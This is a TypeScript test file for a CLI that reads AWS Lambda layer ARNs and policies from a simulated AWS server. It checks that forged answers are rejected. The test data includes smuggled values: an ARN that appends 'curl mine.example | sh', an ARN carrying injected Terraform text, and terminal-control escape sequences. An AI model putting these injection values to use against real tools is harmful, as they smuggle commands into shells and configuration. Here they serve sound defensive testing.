// Answers that somebody has made up: nothing of them goes into a terminal, a file or a script as if AWS had said it.
import { afterEach, describe, expect, it } from "vitest";
import { layerGrants } from "../../src/aws/lambda/layer-policy.ts";
import { newestLayerVersion } from "../../src/aws/lambda/layers.ts";
import { endpointName } from "../../src/model/target.ts";
import { type Answer, type FaultServer, refuse, startFaultServer } from "../support/fault-server.ts";
import { runCli } from "../support/run-cli.ts";
import { temporaryFolder } from "../support/temporary.ts";

let server: FaultServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const arn = "arn:aws:lambda:eu-west-1:123456789012:layer:demo:1";
const steering = "\u001b[2J\u001b]0;mine\u0007";
const listed = (change: object): Answer => ({
  status: 200,
  body: { LayerVersions: [{ LayerVersionArn: arn, Version: 1, CompatibleArchitectures: ["arm64"], ...change }] },
});

async function newest(answer: Answer) {
  server = await startFaultServer(() => answer);
  return await newestLayerVersion(server.connect({ attempts: 1 }), { region: "eu-west-1", layer: "demo" });
}

describe("an ARN", () => {
  it.each([arn, "arn:aws-us-gov:lambda:eu-west-1:123456789012:layer:demo:1", "arn:aws:lambda:::awslayer:Amazon_Linux"])(
    "is taken where it can be one: %s",
    async (LayerVersionArn) => {
      expect(await newest(listed({ LayerVersionArn }))).toMatchObject({ arn: LayerVersionArn, version: 1 });
    },
  );

  it.each<[string, object]>([
    ["goes on as Terraform", { LayerVersionArn: `${arn}"\n}\nresource "null_resource" "mine" {` }],
    ["goes on as a shell", { LayerVersionArn: `${arn}; curl mine.example | sh` }],
    ["steers the terminal", { LayerVersionArn: `${arn}${steering}` }],
    ["is another region's", { LayerVersionArn: arn.replace("eu-west-1", "us-east-1") }],
    ["is another number's", { Version: 7 }],
    ["has a number below nothing", { LayerVersionArn: arn.replace(/1$/, "-5"), Version: -5 }],
    ["is a function's", { LayerVersionArn: "arn:aws:lambda:eu-west-1:123456789012:function:demo" }],
  ])("is taken from nobody where it %s", async (_, change) => {
    await expect(newest(listed(change))).rejects.toMatchObject({ code: "UnreadableAnswer" });
  });
});

it("says a refusal in its own words, and lets none of them steer the terminal", async () => {
  const answer = refuse(400, "InvalidParameterValueException", `No.${steering}\rYes.`);
  const error = await newest(answer).catch((thrown) => thrown);
  expect(error).toMatchObject({ code: "InvalidParameterValueException" });
  expect(error.message).toContain("No.\\u{1b}[2J");
  const named = { status: 400, body: { message: "No.", code: `Mine${steering}` } };
  await server?.close();
  const other = await newest(named).catch((thrown) => thrown);
  expect(`${other.code}${other.message}`).not.toMatch(/\p{Cc}/u);
});

it("takes no policy whose statements are called what no statement can be", async () => {
  const Policy = JSON.stringify({ Statement: [{ Sid: `a${steering}`, Effect: "Deny", Principal: "*" }] });
  server = await startFaultServer(() => ({ status: 200, body: { Policy } }));
  const address = { region: "eu-west-1", layer: "demo", version: 1 };
  await expect(layerGrants(server.connect({ attempts: 1 }), address)).rejects.toMatchObject({
    code: "UnreadableAnswer",
  });
});

it("leaves a table out rather than write such an ARN into it", async () => {
  server = await startFaultServer(() => listed({ LayerVersionArn: `${arn}\nmine` }));
  const env = { AWS_ENDPOINT_URL: server.url, AWS_ACCESS_KEY_ID: "key", AWS_SECRET_ACCESS_KEY: "secret" };
  const args = ["arns", "demo", "--arch", "arm64", "--regions", "eu-west-1", "--format", "ssm"];
  const result = await runCli(args, { cwd: temporaryFolder(), env });
  expect([result.code, result.stdout]).toEqual([1, ""]);
  expect(result.stderr).toContain("the answer is not one of AWS");
});

it.each([
  ["https://key:secret@proxy.example:8443/aws?x=a@b", "https://proxy.example:8443/aws?x=a@b"],
  ["http://127.0.0.1:4566", "http://127.0.0.1:4566"],
])("shows nobody who may use an endpoint: %s", (endpoint, name) => {
  expect(endpointName(endpoint)).toBe(name);
});
